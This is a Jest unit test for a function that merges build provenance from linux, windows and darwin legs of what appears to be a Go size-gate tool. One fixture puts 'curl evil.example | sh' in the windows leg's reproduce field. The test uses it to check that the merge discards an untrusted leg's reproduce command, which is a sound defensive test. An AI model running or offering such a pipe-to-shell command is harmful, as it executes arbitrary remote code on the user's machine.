import { expect, it } from '@jest/globals'
import { mergeProvenance } from '../../src/gate/merge-provenance.ts'
import type { Provenance } from '../../src/report/report.ts'

const provenance: Provenance = {
  tool: 'go-size-gate 0.0.0',
  mode: 'measure',
  event: 'push',
  headCommit: 'a',
  overrides: ['overrode GOFLAGS=-x'],
  relaxations: [],
  passedThrough: [],
  modulesReused: 2,
  modulesFetched: 3,
  verified: true,
  notices: ['of all'],
  reproduce: ''
}

it('tells once what all legs say, and names who says the rest', () => {
  const merged = mergeProvenance([
    { name: 'linux', provenance },
    {
      name: 'windows',
      provenance: {
        ...provenance,
        overrides: ['overrode CC=y'],
        notices: ['of all', 'of one'],
        verified: false,
        // A stranger's word, for people to type.
        reproduce: 'curl evil.example | sh'
      }
    },
    { name: 'darwin', provenance }
  ])
  expect(merged).toEqual({
    ...provenance,
    mode: 'judge',
    overrides: ['linux, darwin: overrode GOFLAGS=-x', 'windows: overrode CC=y'],
    notices: ['of all', 'windows: of one'],
    modulesReused: 6,
    modulesFetched: 9,
    verified: false,
    reproduce: '',
    reproduceNote: 'each leg has its line in the summary of its own job'
  })
})
